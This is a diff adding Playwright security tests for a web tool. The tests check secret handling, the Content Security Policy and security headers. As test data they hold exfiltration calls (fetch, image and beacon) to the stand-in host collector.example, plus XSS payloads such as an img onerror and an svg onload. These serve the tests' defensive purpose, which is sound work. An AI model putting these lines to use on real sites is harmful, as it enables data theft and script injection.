@@ -1,0 +1,191 @@
+/** What docs/security.md promises, from outside: the tests that it names. */
+import type { Page } from '@playwright/test';
+
+import { expect, test } from './fixtures.ts';
+
+// A refusal is an answer with a status of 400 and more, which Chromium writes to the console.
+test.use({ expectedErrors: [/server responded with a status of 401/] });
+
+const SECRET = 'a-secret-that-must-not-stay';
+const departures = (page: Page) => page.getByRole('status', { name: 'Requests that left this page' });
+const secretToken = (page: Page) => page.getByRole('textbox', { name: 'SecretToken' });
+
+/** Whatever this origin keeps on disk, as one text. */
+async function everythingStored(page: Page): Promise<string> {
+  return page.evaluate(async () => {
+    const found: string[] = [
+      JSON.stringify({ ...localStorage }),
+      JSON.stringify({ ...sessionStorage }),
+      document.cookie,
+    ];
+    for (const { name = '' } of await indexedDB.databases()) {
+      const database = await new Promise<IDBDatabase>((resolve, reject) => {
+        const opening = indexedDB.open(name);
+        opening.addEventListener('success', () => resolve(opening.result));
+        opening.addEventListener('error', () => reject(opening.error ?? new Error(name)));
+      });
+      for (const store of database.objectStoreNames) {
+        const records = database.transaction(store).objectStore(store).getAll();
+        await new Promise((resolve) => records.addEventListener('success', resolve));
+        found.push(JSON.stringify(records.result));
+      }
+      database.close();
+    }
+    for (const name of await caches.keys())
+      for (const { url } of await (await caches.open(name)).keys()) found.push(url);
+    return found.join('\n');
+  });
+}
+
+test('what was typed is in no storage, address, history entry or title, also after it was sent', async ({ page }) => {
+  const titles: string[] = [];
+  await page.goto('/#/session-jwt/login');
+  await page.waitForFunction(() => navigator.serviceWorker.controller !== null);
+  await page.getByRole('button', { name: 'Use sandbox credentials' }).click();
+  await page.getByRole('textbox', { name: 'password', exact: true }).fill(SECRET);
+  await page.getByRole('button', { name: 'Send to sandbox' }).click();
+  await expect(page.getByRole('status', { name: 'Sandbox answer' })).toContainText('HTTP 401');
+  titles.push(await page.title(), page.url());
+  await page.getByRole('link', { name: /^Open exchange/ }).click();
+  await expect(page.getByRole('region', { name: 'Response' })).toBeVisible();
+  titles.push(await page.title(), page.url(), await page.evaluate(() => JSON.stringify(history.state)));
+  const stored = await everythingStored(page);
+  // The sandbox did keep its own memory there.
+  expect(stored).toMatch(/\d/);
+  for (const text of [stored, ...titles]) expect(text).not.toContain(SECRET);
+});
+
+test('Clear empties the fields, and once it cannot be undone nothing of them is left', async ({ page }) => {
+  await page.goto('/#/aeterna/request');
+  await secretToken(page).fill(SECRET);
+  await page.getByRole('button', { name: 'Clear', exact: true }).click();
+  await expect(secretToken(page)).toHaveValue('');
+  // Going elsewhere ends the chance to undo.
+  await page.goto('/#/aeterna/webhook');
+  await expect(secretToken(page)).toHaveValue('');
+  await page.goto('/#/aeterna/request');
+  await expect(page.getByRole('button', { name: 'Undo' })).toHaveCount(0);
+  await expect(secretToken(page)).toHaveValue('');
+});
+
+test('a page that is left forgets what was typed, even when the browser keeps it', async ({ page }) => {
+  await page.goto('/#/aeterna/request');
+  await secretToken(page).fill(SECRET);
+  // What the browser does when it puts the page aside for the Back button.
+  await page.evaluate(() => window.dispatchEvent(new PageTransitionEvent('pagehide', { persisted: true })));
+  await expect(secretToken(page)).toHaveValue('');
+  const loaded = page.waitForEvent('load');
+  await page.evaluate(() => window.dispatchEvent(new PageTransitionEvent('pageshow', { persisted: true })));
+  await loaded;
+  await expect(secretToken(page)).toHaveValue('');
+});
+
+test('the counter of requests that left the page stays at none through a whole visit', async ({ page }) => {
+  for (const path of ['', 'paynet/auth', 'paysera/mac?tab=learn', 'doctor', 'flows/session-jwt/expiry-and-refresh']) {
+    await page.goto(`/#/${path}`);
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    await expect(departures(page)).toHaveText('0 requests left this page');
+  }
+});
+
+test.describe('what tries to leave', () => {
+  test.use({ expectedErrors: [/violat|policy|Content Security Policy|request to another origin|Failed to load/i] });
+
+  test('is stopped by the policy, and the counter says so', async ({ page }) => {
+    await page.goto('/');
+    await expect(departures(page)).toHaveText('0 requests left this page');
+    const reached: string[] = [];
+    await page.route('https://collector.example/**', (route) => {
+      reached.push(route.request().url());
+      return route.abort();
+    });
+    await page.evaluate(() => fetch('https://collector.example/?secret').catch(() => {}));
+    await expect(departures(page)).toHaveText('0 requests left this page; 1 request stopped');
+    await page.evaluate(() => {
+      new Image().src = 'https://collector.example/pixel.png';
+      navigator.sendBeacon('https://collector.example/beacon', 'x');
+    });
+    await expect(departures(page)).toHaveText('0 requests left this page; 3 requests stopped');
+    expect(reached).toEqual([]);
+  });
+});
+
+test.describe('without the policy', () => {
+  test.use({ bypassCSP: true, expectedErrors: [/request to another origin|Failed to load|policy/] });
+
+  test('a request that really leaves is counted: the counter can show more than none', async ({ page, baseURL }) => {
+    await page.goto('/');
+    // This very server, under a name that is another origin.
+    const other = (baseURL ?? '').replace('127.0.0.1', 'localhost');
+    await page.evaluate((url) => fetch(url, { mode: 'no-cors' }), `${other}/favicon.svg`);
+    await expect(departures(page)).toHaveText('1 request left this page');
+  });
+});
+
+test.describe('the content policy', () => {
+  test.use({ expectedErrors: [/violat|policy|Content Security Policy|TrustedHTML|TrustedScript/i] });
+
+  test('is in the header and in the page, and allows no inline script or style element', async ({ page }) => {
+    const response = await page.goto('/');
+    const header = response?.headers()['content-security-policy'] ?? '';
+    const meta = (await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content')) ?? '';
+    for (const policy of [header, meta]) {
+      expect(policy).toContain("default-src 'none'");
+      expect(policy).toContain("require-trusted-types-for 'script'");
+      expect(policy).toContain("connect-src 'self'");
+      const inline = policy.split('; ').filter((directive) => directive.includes("'unsafe-"));
+      // Monaco's style attributes, and nothing else.
+      expect(inline).toEqual(["style-src-attr 'unsafe-inline'"]);
+    }
+    expect(header).toContain("frame-ancestors 'none'");
+  });
+
+  test('stops markup and script that get into the page', async ({ page }) => {
+    await page.goto('/');
+    const done = await page.evaluate(() => {
+      const outcome: string[] = [];
+      try {
+        document.body.insertAdjacentHTML('beforeend', '<img src=x onerror="window.pwned = 1">');
+        outcome.push('markup');
+      } catch {
+        // As it should be.
+      }
+      const script = document.createElement('script');
+      try {
+        script.textContent = 'window.pwned = 1';
+        document.body.append(script);
+      } catch {
+        // As it should be.
+      }
+      try {
+        // oxlint-disable-next-line no-implied-eval
+        setTimeout('window.pwned = 1', 0);
+      } catch {
+        // As it should be.
+      }
+      return outcome;
+    });
+    expect(done).toEqual([]);
+    await page.waitForTimeout(300);
+    expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
+  });
+});
+
+test('a pasted token with markup in it is shown as text', async ({ page }) => {
+  const part = (json: object) => Buffer.from(JSON.stringify(json)).toString('base64url');
+  const evil = '<svg/onload=window.pwned=1>';
+  await page.goto('/#/session-jwt/token');
+  await page
+    .getByRole('textbox', { name: 'accessToken', exact: true })
+    .fill(`${part({ alg: 'RS256', typ: evil })}.${part({ email: evil, exp: 1 })}.AAAA`);
+  await expect(page.getByRole('main')).toContainText(evil);
+  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
+});
+
+test('the page cannot be framed, and its opener gets no hold of it', async ({ page }) => {
+  const headers = (await page.goto('/'))?.headers() ?? {};
+  expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
+  expect(headers['cross-origin-opener-policy']).toBe('same-origin');
+  expect(headers['x-content-type-options']).toBe('nosniff');
+  expect(headers['referrer-policy']).toBe('no-referrer');
+});
